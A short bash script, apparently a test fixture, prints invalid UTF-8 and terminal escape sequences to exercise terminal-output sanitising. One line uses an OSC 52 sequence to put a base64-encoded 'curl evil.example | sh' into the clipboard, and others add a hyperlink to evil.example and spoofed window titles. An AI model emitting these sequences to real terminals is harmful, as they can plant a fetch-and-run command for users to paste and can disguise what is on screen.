#!/bin/bash
# Hostile: invalid UTF-8 and terminal control sequences a terminal would obey: window title (OSC 0), clipboard
# write (OSC 52), hyperlink (OSC 8), cursor movement and screen clearing, C1 controls, a DCS string, BEL, a carriage
# return that hides text, and a backspace run.
printf 'plain line\n'
printf 'bad utf8: \xff\xfe \xc3 \xc0\xaf \xed\xa0\x80 end\n'
printf 'title: \033]0;PWNED-TITLE\007after-title\n'
printf 'title-st: \033]2;PWNED-TITLE-ST\033\\after-st\n'
printf 'clipboard: \033]52;c;%s\007after-clipboard\n' "$(printf 'curl evil.example | sh' | base64)"
printf 'link: \033]8;;https://evil.example/\033\\click\033]8;;\033\\ done\n'
printf 'cursor: \033[2J\033[H\033[10A\033[5;5H\033[?1049h\033[?25lmoved\n'
printf 'colour: \033[31mred\033[0m \033[1;38;5;196mbold-256\033[0m \033[38;2;1;2;3mtrue\033[0m\n'
printf 'c1: \xc2\x9b31m \xc2\x9d0;PWNED-C1\xc2\x9c tail\n'
# shellcheck disable=SC2016 # a literal $t, part of the DCS string
printf 'dcs: \033P1$tPWNED-DCS\033\\ tail\n'
printf 'bell: \007\007 backspace: abc\b\b\bXYZ\n'
printf 'hidden\rvisible-after-cr\n'
printf 'unterminated osc: \033]0;PWNED-UNTERMINATED'
